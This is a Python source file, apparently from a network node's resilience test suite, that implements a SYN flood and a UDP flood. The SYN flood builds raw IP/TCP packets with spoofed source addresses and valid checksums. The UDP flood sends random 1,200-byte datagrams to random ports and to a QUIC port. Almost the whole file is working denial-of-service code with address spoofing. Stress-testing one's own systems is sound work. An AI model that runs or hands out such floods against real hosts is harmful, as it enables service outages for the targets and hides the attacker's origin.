"""Floods below TCP, which no budget of a program can hold back: made to be counted, and shed by the system's filter."""

import random
import socket
import struct


class SynFlood:
    """SYNs from addresses that do not answer, by a raw socket: each costs the target's system a half-open entry."""

    def __init__(self, network: "tuple[int, int]", target: "tuple[str, int]", dice: random.Random) -> None:
        """`network`: the first two bytes of the addresses that are made up."""
        self.done = {"packets": 0}
        self._network = network
        self._target = target
        self._dice = dice
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._sock.setblocking(False)

    def step(self, count: int) -> None:
        """Send so many."""
        host, port = self._target
        there = socket.inet_aton(host)
        for _ in range(count):
            dice = self._dice
            here = bytes([*self._network, dice.randrange(200, 250), dice.randrange(1, 255)])
            tcp = struct.pack(">HHIIHHHH", dice.randrange(1024, 65536), port, dice.randrange(1 << 32), 0, 0x5002, 1024,
                              0, 0)
            check = _checksum(here + there + struct.pack(">BBH", 0, 6, len(tcp)) + tcp)
            tcp = tcp[:16] + struct.pack(">H", check) + tcp[18:]
            ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), dice.randrange(65536), 0, 64, 6, 0, here, there)
            try:
                self._sock.sendto(ip + tcp, (host, 0))
            except OSError:
                return
            self.done["packets"] += 1


class UdpFlood:
    """Datagrams to any port, and to the one on which the node listens for QUIC."""

    def __init__(self, target: str, port: int, dice: random.Random) -> None:
        self.done = {"packets": 0}
        self._target = target
        self._port = port
        self._dice = dice
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._sock.setblocking(False)

    def step(self, count: int) -> None:
        """Send so many."""
        for number in range(count):
            port = self._port if number & 1 else self._dice.randrange(1, 65536)
            try:
                self._sock.sendto(self._dice.randbytes(1_200), (self._target, port))
            except OSError:
                return
            self.done["packets"] += 1


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
